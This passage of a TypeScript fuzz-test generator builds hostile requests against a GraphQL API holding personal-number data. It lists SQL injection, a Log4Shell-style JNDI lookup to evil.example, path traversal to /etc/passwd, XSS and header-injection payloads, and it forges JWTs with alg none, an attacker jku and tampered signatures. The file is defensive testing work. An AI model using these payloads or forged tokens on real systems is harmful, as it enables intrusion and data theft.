/**
 * A seeded generator of hostile HTTP requests for tests/fuzz.test.ts. Everything random comes from mulberry32:
 * request i of a run is generated from its own stream, seeded by (run seed, i), so any single request can be
 * regenerated from the seed and its index alone (FUZZ_SEED=… FUZZ_ONLY=i), whatever ran before it.
 *
 * Families of requests (each request belongs to one):
 * - malformed-json       truncated, random, deeply nested, unterminated, huge, NUL/control, invalid UTF-8 bodies
 * - malformed-graphql    real documents mutated: truncated, spliced, unterminated strings, bad escapes, huge literals
 * - deep-wide            deep nesting (fields, inline fragments, lists, objects, introspection), thousands of
 *                        fields and aliases, fragment chains, cycles and (bounded) fan-out, many operations,
 *                        variables and directives, costly pages
 * - bad-variables        wrong types, huge arrays, deep nesting, prototype-pollution keys, wrong container shapes
 * - injection            injection strings in every argument of every root field (and nested field arguments)
 * - valid-random         random valid queries over the real schema, with real and invalid arguments
 * - hostile-headers      huge/garbage Authorization, X-API-Key, X-Purpose, X-Request-Id, content-type, accept …
 * - hostile-tokens       random JWT-shaped strings, alg none, HMAC, tampered, expired, foreign, oversized tokens
 * - get                  GET /graphql with random query strings
 * - methods-paths        random methods, paths and protocol-level garbage (raw bytes over a socket)
 */
import {
  getNamedType, getNullableType, isEnumType, isInputObjectType, isLeafType, isListType, isNonNullType, isObjectType,
  type GraphQLArgument, type GraphQLField, type GraphQLInputType, type GraphQLObjectType, type GraphQLSchema,
} from 'graphql';
import { hasValidCheckDigit } from '../../src/core/personal-number.js';

// ---------------------------------------------------------------------------------------------------------
// Seeded randomness

/** mulberry32: a small, fast, seeded 32-bit PRNG. Returns floats in [0, 1). */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A run seed from FUZZ_SEED: a decimal number as is, any other text by FNV-1a. */
export function parseSeed(text: string): number {
  if (/^\d+$/.test(text.trim())) return Number(BigInt(text.trim()) % 4294967296n);
  let hash = 0x811c9dc5;
  for (const byte of Buffer.from(text, 'utf8')) hash = Math.imul(hash ^ byte, 0x01000193) >>> 0;
  return hash >>> 0;
}

/** The seed of request `index` in the run seeded `runSeed` (murmur3's finaliser over both). */
export function requestSeed(runSeed: number, index: number): number {
  let h = (runSeed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x85ebca6b);
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35);
  return (h ^ (h >>> 16)) >>> 0;
}

export class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  /** An integer in [min, max]. */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  /** An integer in [min, max], small values much more likely (log-uniform). */
  size(min: number, max: number): number {
    const lo = Math.log(Math.max(min, 1));
    const hi = Math.log(Math.max(max, 1) + 1);
    return Math.min(max, Math.max(min, Math.floor(Math.exp(lo + this.next() * (hi - lo)))));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[Math.floor(this.next() * items.length)]!;
  }
  weighted<T>(entries: readonly (readonly [number, T])[]): T {
    const total = entries.reduce((sum, [weight]) => sum + weight, 0);
    let roll = this.next() * total;
    for (const [weight, value] of entries) {
      roll -= weight;
      if (roll < 0) return value;
    }
    return entries[entries.length - 1]![1];
  }
  subset<T>(items: readonly T[], count: number): T[] {
    const copy = [...items];
    for (let i = copy.length - 1; i > 0; i--) {
      const j = Math.floor(this.next() * (i + 1));
      [copy[i], copy[j]] = [copy[j]!, copy[i]!];
    }
    return copy.slice(0, Math.min(count, copy.length));
  }
  bytes(length: number): Buffer {
    const out = Buffer.alloc(length);
    for (let i = 0; i < length; i++) out[i] = Math.floor(this.next() * 256);
    return out;
  }
  text(length: number, alphabet: string = ALNUM): string {
    let out = '';
    for (let i = 0; i < length; i++) out += alphabet[Math.floor(this.next() * alphabet.length)];
    return out;
  }
  /** Any string of code points, including controls, NUL, lone surrogates, RTL marks and emoji. */
  anyText(length: number): string {
    let out = '';
    for (let i = 0; i < length; i++) {
      out += this.weighted<() => string>([
        [6, () => String.fromCharCode(this.int(0x20, 0x7e))],
        [1, () => String.fromCharCode(this.int(0, 0x1f))],
        [1, () => String.fromCharCode(this.int(0x80, 0x2fff))],
        [1, () => this.pick(['\u0000', '\uFEFF', '\u202E', '\u2028', '\uD800', '\uDFFF', '\uFFFF', '🦀', 'å', 'Ö', '\\', '"', "'"])],
      ])();
    }
    return out;
  }
}

const ALNUM = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const B64URL = `${ALNUM}-_`;

// ---------------------------------------------------------------------------------------------------------
// The world the requests are aimed at

export type PrincipalKind = 'staff' | 'limited' | 'municipality' | 'bound' | 'citizen' | 'apiKey';

export interface FuzzPerson {
  personalNumber: string;
  familyName: string;
  municipality: string;
}

export interface FuzzWorld {
  schema: GraphQLSchema;
  /** Every seeded person. */
  people: readonly FuzzPerson[];
  benefitIds: readonly string[];
  caseIds: readonly string[];
  /** Cursors the server issued (municipality pages, access-log pages). */
  cursors: readonly string[];
  purposes: readonly string[];
  /** Valid credentials, as the header that carries them. */
  credentials: Readonly<Record<PrincipalKind, { header: 'authorization' | 'x-api-key'; value: string }>>;
  /** The purpose bound in the `bound` principal's token. */
  boundPurpose: string;
  /** The citizen behind `credentials.citizen`. */
  citizen: FuzzPerson;
  /** The municipality of `credentials.municipality`. */
  municipality: string;
  /** Pre-minted hostile credentials: expired, foreign, tampered, alg none, HMAC … (Authorization values). */
  hostileAuthorizations: readonly string[];
  /** Pre-made hostile API keys: revoked, expired, unknown, malformed. */
  hostileApiKeys: readonly string[];
  issuers: readonly string[];
  audience: string;
}

export type Family =
  | 'malformed-json' | 'malformed-graphql' | 'deep-wide' | 'bad-variables' | 'injection' | 'valid-random'
  | 'hostile-headers' | 'hostile-tokens' | 'get' | 'methods-paths';

export const FAMILIES: readonly Family[] = [
  'malformed-json', 'malformed-graphql', 'deep-wide', 'bad-variables', 'injection', 'valid-random',
  'hostile-headers', 'hostile-tokens', 'get', 'methods-paths',
];

/** What credentials a request carries: valid ones, none at all, or ones that must be refused. */
export type Auth = 'valid' | 'none' | 'invalid';

export interface FuzzRequest {
  index: number;
  family: Family;
  /** What the generator did, in a few words. */
  note: string;
  method: string;
  /** Path and query string. */
  target: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** When set, these exact bytes are written to a socket (fetch cannot send them). */
  raw?: Buffer;
  /** The server may close the connection without an answer (e.g. CONNECT, which node:http leaves to a listener). */
  mayCloseSilently?: boolean;
  auth: Auth;
  principal?: PrincipalKind;
  /** Personal-number-like values the request carries anywhere (none may come back in an error message). */
  submitted: string[];
  /** `Type.field(arg.path)` coordinates that received an injection string. */
  probes: string[];
}

// ---------------------------------------------------------------------------------------------------------
// Hostile values

export const INJECTIONS: readonly string[] = [
  "' OR 1=1 --", "' OR '1'='1", "1' OR '1'='1' /*", "\" OR \"\"=\"", '"; DROP TABLE FB_PERSON; --', "'; DROP TABLE AF_ARENDE; --",
  '1; DROP TABLE FK_BESLUT', "' UNION SELECT PERSONID, EFTERNAMN FROM FB_PERSON --", "') OR ('x'='x", "admin'--", '1 OR 1=1',
  "'; SELECT sqlite_version(); --", "' AND SLEEP(5) --", "'; WAITFOR DELAY '0:0:5' --", '%', '_', '%%', '*', '?', '\\', "'", '"', '`',
  '$where', '{"$where": "sleep(1000)"}', '{"$gt": ""}', '{"$ne": null}', '[$ne]=1', '../../', '../../../etc/passwd',
  '..\\..\\windows\\win.ini', '/etc/passwd%00', '%00', '\u0000', 'a\u0000b', '%2e%2e%2f', '${jndi:ldap://evil.example/a}',
  '${jndi:${lower:l}${lower:d}ap://x/a}', '${7*7}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>', '%s%s%s%s%n', '%x%x%x', '\r\nX-Injected: 1', '\n', '\t', ' ', '', 'null', 'undefined',
  'NaN', 'Infinity', '-0', '1e309', '0x1F', '[]', '{}', '__proto__', 'constructor', 'prototype', 'true', 'SELECT', '\uFEFF',
  '\u202E0810-7834', 'ℌ𝔢𝔩𝔩𝔬', '𝟏𝟗𝟖𝟎𝟏𝟐𝟏𝟓𝟕𝟖𝟑𝟒', '１９８０１２１５７８３４', '١٩٨٠١٢١٥٧٨٣٤', '۱۹۸۰۱۲۱۵۷۸۳۴', '१९८०१२१५७८३४', '198O1215-7834',
  '19801215\u20137834', '19801215\u22127834', 'ⅠⅩⅧⅣ', '0180\u0000', '0180; --', 'AF-2024-000001\' --', '99999999999999999999999999',
];

/** Digits that look like ASCII digits (or are digits in another script); JavaScript's \d matches none of them. */
const HOMOGLYPH_DIGITS: readonly string[][] = [
  ['０', '１', '２', '３', '４', '５', '６', '７', '８', '９'], // fullwidth
  ['٠', '١', '٢', '٣', '٤', '٥', '٦', '٧', '٨', '٩'], // Arabic-Indic
  ['۰', '۱', '۲', '۳', '۴', '۵', '۶', '۷', '۸', '۹'], // Extended Arabic-Indic
  ['०', '१', '२', '३', '४', '५', '६', '७', '८', '९'], // Devanagari
  ['𝟎', '𝟏', '𝟐', '𝟑', '𝟒', '𝟓', '𝟔', '𝟕', '𝟖', '𝟗'], // mathematical bold
  ['O', 'l', 'Z', '3', 'A', 'S', 'b', '7', 'B', 'g'], // Latin look-alikes
];

/** A real number with some (or all) digits swapped for look-alikes. */
export function homoglyph(rng: Rng, value: string): string {
  const set = rng.pick(HOMOGLYPH_DIGITS);
  const all = rng.chance(0.5);
  return [...value].map((ch) => (/\d/.test(ch) && (all || rng.chance(0.3)) ? set[Number(ch)]! : ch)).join('');
}

function luhnComplete(first11: string): string {
  for (let d = 0; d < 10; d++) if (hasValidCheckDigit(`${first11}${d}`)) return `${first11}${d}`;
  throw new Error('unreachable');
}

function pad(n: number, width: number): string {
  return String(n).padStart(width, '0');
}

/** A syntactically valid, Luhn-valid personal number (most likely nobody's). */
export function randomValidPersonalNumber(rng: Rng): string {
  const year = rng.int(1900, 2025);
  const month = rng.int(1, 12);
  const day = rng.int(1, 28) + (rng.chance(0.1) ? 60 : 0);
  return luhnComplete(`${year}${pad(month, 2)}${pad(day, 2)}${pad(rng.int(1, 999), 3)}`);
}

export interface PersonalNumberValue {
  value: string;
  /** Which kind of value it is (for notes). */
  kind: string;
}

/** A personal-number argument: real ones in every accepted form, valid strangers, and every way to be invalid. */
export function personalNumberValue(rng: Rng, world: FuzzWorld): PersonalNumberValue {
  const real = rng.pick(world.people).personalNumber;
  const ten = real.slice(2);
  return rng.weighted<() => PersonalNumberValue>([
    [30, () => ({ value: real, kind: 'real' })],
    [5, () => ({ value: `${ten.slice(0, 6)}-${ten.slice(6)}`, kind: 'real-10-dash' })],
    [3, () => ({ value: ten, kind: 'real-10' })],
    [3, () => ({ value: `${ten.slice(0, 6)}+${ten.slice(6)}`, kind: 'real-10-plus' })],
    [3, () => ({ value: `${real.slice(0, 8)}-${real.slice(8)}`, kind: 'real-12-dash' })],
    [2, () => ({ value: ` ${real}\t`, kind: 'real-padded' })],
    [10, () => ({ value: randomValidPersonalNumber(rng), kind: 'stranger' })],
    [8, () => ({ value: real.slice(0, 11) + String((Number(real[11]) + rng.int(1, 9)) % 10), kind: 'bad-check-digit' })],
    [4, () => ({ value: luhnComplete(`${real.slice(0, 4)}1332${real.slice(8, 11)}`), kind: 'bad-date' })],
    [3, () => ({ value: luhnComplete(`${real.slice(0, 8)}000`), kind: 'birth-number-000' })],
    [4, () => ({ value: real.slice(0, rng.int(0, 11)), kind: 'too-short' })],
    [3, () => ({ value: real + rng.text(rng.int(1, 4), '0123456789'), kind: 'too-long' })],
    [4, () => ({ value: homoglyph(rng, real), kind: 'homoglyph' })],
    [3, () => ({ value: real.replace(/\d$/, rng.pick(['a', '-', ' ', '\u0000', '٤'])), kind: 'bad-char' })],
    [4, () => ({ value: rng.pick(INJECTIONS), kind: 'injection' })],
    [2, () => ({ value: `${real}${rng.pick(INJECTIONS)}`, kind: 'real-plus-injection' })],
    [2, () => ({ value: rng.text(rng.size(1, 5000), '0123456789'), kind: 'digits' })],
    [1, () => ({ value: rng.anyText(rng.size(1, 200)), kind: 'garbage' })],
  ])();
}

// ---------------------------------------------------------------------------------------------------------
// Documents over the real schema

interface Doc {
  query: string;
  variables: Record<string, unknown>;
  submitted: string[];
  operationName?: string;
}

/** Collects variable definitions while a document is generated. */
class DocBuilder {
  readonly definitions: string[] = [];
  readonly variables: Record<string, unknown> = {};
  readonly submitted: string[] = [];
  private counter = 0;
  constructor(readonly rng: Rng, readonly world: FuzzWorld, readonly useVariables: number) {}

  /** Renders a value either inline or as a variable declared with `type`. */
  value(type: GraphQLInputType, value: unknown): string {
    if (value !== undefined && this.rng.chance(this.useVariables)) {
      const name = `v${this.counter++}`;
      this.definitions.push(`$${name}: ${String(type)}`);
      this.variables[name] = value;
      return `$${name}`;
    }
    return literal(type, value);
  }

  note(value: string): void {
    if (/\d{4}/.test(value) || /[^\x00-\x7f]/.test(value)) this.submitted.push(value);
  }
}

/** A GraphQL literal for `value` of `type` (enums bare, strings JSON-escaped, which GraphQL accepts). */
export function literal(type: GraphQLInputType, value: unknown): string {
  const named = getNamedType(type);
  if (value === null || value === undefined) return 'null';
  if (Array.isArray(value)) {
    const item = isListType(getNullableType(type)) ? (getNullableType(type) as { ofType: GraphQLInputType }).ofType : type;
    return `[${value.map((v) => literal(item, v)).join(', ')}]`;
  }
  if (typeof value === 'object') {
    const fields = isInputObjectType(named) ? named.getFields() : {};
    return `{ ${Object.entries(value as Record<string, unknown>).map(([k, v]) => `${k}: ${literal(fields[k]?.type ?? named as GraphQLInputType, v)}`).join(', ')} }`;
  }
  if (isEnumType(named) && typeof value === 'string' && /^[_A-Za-z][_0-9A-Za-z]*$/.test(value)) return value;
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  return JSON.stringify(String(value));
}

function dateValue(rng: Rng): string {
  return rng.weighted<() => string>([
    [6, () => `${rng.int(1990, 2030)}-${pad(rng.int(1, 12), 2)}-${pad(rng.int(1, 28), 2)}`],
    [2, () => rng.pick(['2024-02-29', '2000-02-29', '1970-01-01', '9999-12-31', '0000-01-01'])],
    [2, () => rng.pick(['2024-02-30', '2023-02-29', '2024-13-01', '2024-00-10', '20240101', '24-01-01', '2024-1-1', 'yesterday', '', '2024-01-01T00:00:00Z', '+002024-01-01', '2024-01-01\u0000'])],
    [1, () => rng.pick(INJECTIONS)],
  ])();
}

function dateTimeValue(rng: Rng): string {
  return rng.weighted<() => string>([
    [5, () => `${rng.int(2020, 2030)}-${pad(rng.int(1, 12), 2)}-${pad(rng.int(1, 28), 2)}T${pad(rng.int(0, 23), 2)}:${pad(rng.int(0, 59), 2)}:00${rng.pick(['Z', '+02:00', '+01:00', '-05:00'])}`],
    [2, () => rng.pick(['2024-10-27T02:30:00+02:00', '1970-01-01T00:00:00Z', '275760-09-13T00:00:00Z', '-271821-04-20T00:00:00Z'])],
    [2, () => rng.pick(['2024-13-01T00:00:00Z', 'now', '', 'T', '2024-01-01', '9'.repeat(40), '2024-01-01T25:00:00Z'])],
    [1, () => rng.pick(INJECTIONS)],
  ])();
}

function cursorValue(rng: Rng, world: FuzzWorld): string | null {
  return rng.weighted<() => string | null>([
    [3, () => null],
    [4, () => (world.cursors.length > 0 ? rng.pick(world.cursors) : 'x')],
    [2, () => Buffer.from(`v1:${rng.pick(world.people).personalNumber}`).toString('base64url')],
    [2, () => rng.text(rng.size(1, 300), B64URL)],
    [1, () => Buffer.from(rng.pick(INJECTIONS)).toString('base64url')],
    [1, () => rng.pick(INJECTIONS)],
    [1, () => 'A'.repeat(rng.size(1, 100_000))],
  ])();
}

function intValue(rng: Rng): number {
  return rng.weighted<() => number>([
    [8, () => rng.int(0, 20)],
    [3, () => rng.int(-5, 120)],
    [1, () => rng.pick([-2147483648, 2147483647, 100, 101, -1, 0])],
  ])();
}

/** A plausible (often valid) value for an argument, chosen by its coordinate and type. */
function argumentValue(b: DocBuilder, coordinate: string, type: GraphQLInputType): unknown {
  const { rng, world } = b;
  const nullable = getNullableType(type) as GraphQLInputType;
  const named = getNamedType(type);
  const name = coordinate.split('.').pop()!;
  if (isListType(nullable)) {
    const item = (nullable as { ofType: GraphQLInputType }).ofType;
    const count = name === 'personalNumbers' && rng.chance(0.05) ? rng.int(100, 130) : rng.size(0, 12);
    return Array.from({ length: count }, () => argumentValue(b, coordinate, item));
  }
  if (isInputObjectType(named)) {
    const out: Record<string, unknown> = {};
    for (const field of Object.values(named.getFields())) {
      if (isNonNullType(field.type) || rng.chance(0.4)) out[field.name] = argumentValue(b, `${coordinate}.${field.name}`, field.type);
    }
    return out;
  }
  if (isEnumType(named)) return rng.chance(0.97) ? rng.pick(named.getValues()).name : rng.pick(['NOPE', 'granted', 'OK ']);
  const scalar = named.name;
  let value: unknown;
  if (/personalNumber|subject$/.test(name) && scalar === 'String') {
    value = personalNumberValue(rng, world).value;
  } else if (name === 'code') {
    value = rng.weighted<() => string>([[6, () => rng.pick(world.people).municipality], [2, () => pad(rng.int(0, 9999), 4)], [1, () => rng.pick(['018', '01800', 'abcd', '', '0180 ', rng.pick(INJECTIONS)])]])();
  } else if (name === 'after') {
    value = cursorValue(rng, world);
  } else if (name === 'first' || scalar === 'Int') {
    value = intValue(rng);
  } else if (scalar === 'ID' && /case/i.test(coordinate)) {
    value = rng.chance(0.8) ? rng.pick(world.caseIds) : rng.pick([...INJECTIONS, 'AF-2024-999999', '0']);
  } else if (scalar === 'ID') {
    value = rng.chance(0.8) ? rng.pick(world.benefitIds) : rng.pick([...INJECTIONS, '99999999', '-1', '1e3']);
  } else if (scalar === 'Date') {
    value = dateValue(rng);
  } else if (scalar === 'DateTime') {
    value = dateTimeValue(rng);
  } else if (name === 'purpose') {
    value = rng.chance(0.8) ? rng.pick(world.purposes) : rng.pick(INJECTIONS);
  } else if (name === 'organization') {
    value = rng.pick(['AF', 'FK', 'SKV', '0180', rng.pick(INJECTIONS)]);
  } else if (scalar === 'Boolean') {
    value = rng.chance(0.5);
  } else {
    value = rng.chance(0.7) ? rng.text(rng.size(1, 20)) : rng.pick(INJECTIONS);
  }
  if (typeof value === 'string') b.note(value);
  return value;
}

interface SelectionOptions {
  maxDepth: number;
  maxFields: number;
  aliasChance: number;
  fragmentChance: number;
  /** Force this argument of this coordinate to a value (injection). */
  force?: { coordinate: string; value: unknown; asVariable: boolean } | undefined;
}

function renderArguments(b: DocBuilder, parent: string, field: GraphQLField<unknown, unknown>, options: SelectionOptions): string {
  const rendered: string[] = [];
  for (const arg of field.args) {
    const coordinate = `${parent}.${field.name}.${arg.name}`;
    const forced = options.force && options.force.coordinate.startsWith(coordinate) ? options.force : undefined;
    if (forced) {
      rendered.push(`${arg.name}: ${renderForced(b, coordinate, arg, forced)}`);
      continue;
    }
    if (!isNonNullType(arg.type) && !b.rng.chance(0.5)) continue;
    rendered.push(`${arg.name}: ${b.value(arg.type, argumentValue(b, coordinate, arg.type))}`);
  }
  return rendered.length > 0 ? `(${rendered.join(', ')})` : '';
}

/** The forced value goes to exactly the coordinate named (inside an input object, if need be). */
function renderForced(b: DocBuilder, coordinate: string, arg: GraphQLArgument, forced: NonNullable<SelectionOptions['force']>): string {
  if (forced.coordinate === coordinate) {
    if (forced.asVariable) {
      const name = `inj${b.definitions.length}`;
      const declared = isListType(getNullableType(arg.type)) ? '[String]' : getNamedType(arg.type).name === 'Int' ? 'Int' : 'String';
      // Declared as the argument's type where it is a string type, else as String (then validation refuses it).
      b.definitions.push(`$${name}: ${['String', 'ID'].includes(getNamedType(arg.type).name) ? String(arg.type) : declared}`);
      b.variables[name] = isListType(getNullableType(arg.type)) && !Array.isArray(forced.value) ? [forced.value] : forced.value;
      return `$${name}`;
    }
    return isListType(getNullableType(arg.type)) ? `[${JSON.stringify(forced.value)}]` : JSON.stringify(forced.value);
  }
  // An input object: the forced field and any required ones.
  const named = getNamedType(arg.type);
  if (!isInputObjectType(named)) return JSON.stringify(forced.value);
  const inner = forced.coordinate.slice(coordinate.length + 1);
  const parts = Object.values(named.getFields()).flatMap((field) => {
    if (field.name === inner) return [`${field.name}: ${JSON.stringify(forced.value)}`];
    if (isNonNullType(field.type) || b.rng.chance(0.3)) return [`${field.name}: ${literal(field.type, argumentValue(b, `${coordinate}.${field.name}`, field.type))}`];
    return [];
  });
  return `{ ${parts.join(', ')} }`;
}

function selectionSet(b: DocBuilder, type: GraphQLObjectType, depth: number, options: SelectionOptions, required?: string[]): string {
  const { rng } = b;
  const fields = Object.values(type.getFields());
  const wanted = new Set(required ?? []);
  if (type.name === 'Citizen' && rng.chance(0.6)) wanted.add(rng.pick(['personalNumber', 'familyName']));
  const chosen = [...fields.filter((f) => wanted.has(f.name)), ...rng.subset(fields.filter((f) => !wanted.has(f.name)), rng.int(wanted.size > 0 ? 0 : 1, options.maxFields))];
  const parts: string[] = [];
  for (const field of chosen) {
    const named = getNamedType(field.type);
    const alias = rng.chance(options.aliasChance) ? `${rng.text(1, 'abcdefghijklmnopqrstuvwxyz')}${rng.text(rng.int(0, 6))}: ` : '';
    if (isLeafType(named)) {
      parts.push(`${alias}${field.name}${renderArguments(b, type.name, field, options)}`);
    } else if (isObjectType(named) && (depth < options.maxDepth || wanted.has(field.name))) {
      const args = renderArguments(b, type.name, field, options);
      const next = options.force?.coordinate.startsWith(`${type.name}.${field.name}.`) ? undefined : nextRequired(options, named);
      parts.push(`${alias}${field.name}${args} { ${selectionSet(b, named, depth + 1, options, next)} }`);
    }
  }
  if (rng.chance(0.1)) parts.push('__typename');
  if (parts.length === 0) parts.push('__typename');
  if (rng.chance(options.fragmentChance)) return `... on ${type.name} { ${parts.join(' ')} }`;
  return parts.join(' ');
}

/** For a forced nested coordinate (e.g. Benefit.payments.from), the field on `type` that leads there. */
function nextRequired(options: SelectionOptions, type: GraphQLObjectType): string[] | undefined {
  const coordinate = options.force?.coordinate;
  if (!coordinate) return undefined;
  const [typeName, field] = coordinate.split('.');
  return typeName === type.name && field ? [field] : undefined;
}

/** Paths from Query to the types that own nested arguments: Citizen via citizen, Benefit via benefit … */
const ROUTES: Record<string, string[]> = {
  Citizen: ['citizen'],
  Benefit: ['benefit'],
  Case: ['case'],
};

/** A random operation over the real schema; `force` puts one value into one argument coordinate. */
export function randomOperation(rng: Rng, world: FuzzWorld, options: Partial<SelectionOptions> & { rootFields?: number; useVariables?: number; peopleBias?: number } = {}): Doc {
  const b = new DocBuilder(rng, world, options.useVariables ?? 0.5);
  const query = world.schema.getQueryType()!;
  const opts: SelectionOptions = {
    maxDepth: options.maxDepth ?? rng.int(1, 5),
    maxFields: options.maxFields ?? rng.int(1, 6),
    aliasChance: options.aliasChance ?? 0.1,
    fragmentChance: options.fragmentChance ?? 0.05,
    force: options.force,
  };
  let selection: string;
  if (opts.force) {
    const [typeName, fieldName] = opts.force.coordinate.split('.') as [string, string];
    const root = typeName === 'Query' ? fieldName : ROUTES[typeName]![0]!;
    const field = query.getFields()[root]!;
    const named = getNamedType(field.type) as GraphQLObjectType;
    const inner = typeName === 'Query' ? undefined : [fieldName];
    selection = `${root}${renderArguments(b, 'Query', field, opts)} { ${selectionSet(b, named, 1, { ...opts, maxDepth: Math.max(opts.maxDepth, 2) }, inner)} }`;
  } else {
    const all = Object.values(query.getFields());
    // People are what samgraf serves: most operations ask for some (the rest of the schema is reached too).
    const people = all.filter((f) => ['citizen', 'citizens', 'citizensByMunicipality'].includes(f.name));
    const first = rng.chance(options.peopleBias ?? 0) ? [rng.pick(people)] : [];
    const roots = [...first, ...rng.subset(all.filter((f) => !first.includes(f)), (options.rootFields ?? rng.size(1, 3)) - first.length)];
    selection = roots.map((field) => {
      const alias = rng.chance(opts.aliasChance) ? `r${rng.text(rng.int(1, 5))}: ` : '';
      const named = getNamedType(field.type);
      const args = renderArguments(b, 'Query', field, opts);
      return isObjectType(named) ? `${alias}${field.name}${args} { ${selectionSet(b, named, 1, opts)} }` : `${alias}${field.name}${args}`;
    }).join(' ');
  }
  const name = rng.chance(0.4) ? `Op${rng.text(rng.int(1, 8))}` : '';
  const head = b.definitions.length > 0 || name || rng.chance(0.3) ? `query ${name}${b.definitions.length > 0 ? `(${b.definitions.join(', ')})` : ''} ` : '';
  return { query: `${head}{ ${selection} }`, variables: b.variables, submitted: b.submitted, ...(name && rng.chance(0.5) ? { operationName: name } : {}) };
}

/** Every argument coordinate reachable from Query, through input objects: `Query.citizen.personalNumber` … */
export function argumentCoordinates(schema: GraphQLSchema): string[] {
  const out: string[] = [];
  const walkInput = (prefix: string, type: GraphQLInputType) => {
    const named = getNamedType(type);
    if (isInputObjectType(named)) for (const field of Object.values(named.getFields())) walkInput(`${prefix}.${field.name}`, field.type);
    else out.push(prefix);
  };
  const types: GraphQLObjectType[] = [schema.getQueryType()!, ...Object.keys(ROUTES).map((name) => schema.getType(name) as GraphQLObjectType)];
  for (const type of types) {
    for (const field of Object.values(type.getFields())) {
      for (const arg of field.args) walkInput(`${type.name}.${field.name}.${arg.name}`, arg.type);
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------
// Credentials and headers

interface Credentials {
  headers: Record<string, string>;
  auth: Auth;
  principal?: PrincipalKind;
}

function validCredentials(rng: Rng, world: FuzzWorld, kind?: PrincipalKind): Credentials {
  const principal = kind ?? rng.weighted<PrincipalKind>([[40, 'staff'], [10, 'limited'], [15, 'municipality'], [8, 'bound'], [15, 'citizen'], [12, 'apiKey']]);
  const { header, value } = world.credentials[principal];
  const headers: Record<string, string> = { [header]: value };
  const purpose = rng.weighted<() => string | undefined>([
    [14, () => (principal === 'bound' ? world.boundPurpose : principal === 'citizen' ? 'self-service' : principal === 'apiKey' ? 'social-services' : 'employment-support')],
    [3, () => rng.pick(world.purposes)],
    [2, () => undefined],
    [1, () => rng.pick(['nope', 'EMPLOYMENT-SUPPORT', ' employment-support ', 'employment-support, audit', rng.pick(INJECTIONS).replace(/[\r\n\u0000]/g, '')])],
  ])();
  if (purpose !== undefined) headers['x-purpose'] = purpose;
  return { headers, auth: 'valid', principal };
}

function randomJwtShaped(rng: Rng, world: FuzzWorld): string {
  const now = 1_800_000_000;
  const header: Record<string, unknown> = { alg: rng.pick(['none', 'None', 'NONE', 'HS256', 'HS512', 'RS256', 'ES256', 'PS256', 'EdDSA', 'ES256K', '', null, 1, ['ES256']]) };
  if (rng.chance(0.6)) header.kid = rng.pick(['staff-key-1', 'citizen-key-1', rng.text(rng.size(1, 40)), '../../../../dev/null', "' OR 1=1 --", 'x'.repeat(rng.size(1, 3000))]);
  if (rng.chance(0.2)) header.typ = rng.pick(['JWT', 'at+jwt', 'JOSE', '']);
  if (rng.chance(0.1)) header.jku = 'https://evil.example/jwks.json';
  if (rng.chance(0.1)) header.jwk = { kty: 'oct', k: 'c2VjcmV0' };
  if (rng.chance(0.05)) header.crit = ['exp'];
  if (rng.chance(0.05)) header.b64 = false;
  const payload: Record<string, unknown> = {
    iss: rng.chance(0.8) ? rng.pick(world.issuers) : rng.pick(['https://evil.example', '', rng.text(10)]),
    aud: rng.chance(0.8) ? world.audience : rng.pick(['other', ['samgraf', 'x'], '']),
    exp: rng.chance(0.8) ? now + rng.int(-1e9, 1e9) : rng.pick(['soon', null, 1e308, -1]),
    sub: rng.chance(0.5) ? rng.pick(world.people).personalNumber : rng.text(rng.size(1, 30)),
  };
  if (rng.chance(0.5)) payload.org = rng.pick(['AF', 'FK', 'SKV', '']);
  if (rng.chance(0.5)) payload.scope = rng.pick(['citizen:read audit:read', 'admin', '*', 'citizen:read '.repeat(500)]);
  if (rng.chance(0.2)) payload.municipality = rng.pick(['0180', '01800', 180, '%']);
  if (rng.chance(0.2)) payload.purposes = rng.pick([['audit'], 'audit', [1, 2]]);
  if (rng.chance(0.05)) Object.defineProperty(payload, '__proto__', { value: { admin: true }, enumerable: true });
  const encode = (value: unknown) => Buffer.from(rng.chance(0.05) ? rng.anyText(rng.size(1, 50)) : JSON.stringify(value)).toString(rng.chance(0.9) ? 'base64url' : 'base64');
  const signature = rng.weighted<() => string>([[4, () => rng.text(rng.size(0, 400), B64URL)], [1, () => ''], [1, () => '.'], [1, () => rng.text(10, '!@#$%^&*()')]])();
  const parts = [encode(header), encode(payload), signature];
  const shape = rng.weighted<() => string[]>([[10, () => parts], [1, () => parts.slice(0, 2)], [1, () => [...parts, rng.text(20, B64URL), rng.text(20, B64URL)]], [1, () => [parts[0]!, '', parts[2]!]]])();
  return shape.join('.');
}

function decodePayload(part: string): Record<string, unknown> {
  try {
    return JSON.parse(Buffer.from(part, 'base64url').toString('utf8')) as Record<string, unknown>;
  } catch {
    return {};
  }
}

/** Changes one character in the middle (the last base64url character may carry only padding bits). */
function flipMiddle(text: string): string {
  const at = Math.floor(text.length / 2) + 3;
  return `${text.slice(0, at)}${text[at] === 'A' ? 'B' : 'A'}${text.slice(at + 1)}`;
}

function hostileAuthorization(rng: Rng, world: FuzzWorld): string {
  const staff = world.credentials.staff.value;
  const token = staff.replace(/^Bearer /, '');
  const [h, p, s] = token.split('.') as [string, string, string];
  return rng.weighted<() => string>([
    [10, () => rng.pick(world.hostileAuthorizations)],
    [10, () => `Bearer ${randomJwtShaped(rng, world)}`],
    [2, () => `Bearer ${h}.${p}.${flipMiddle(s)}`],
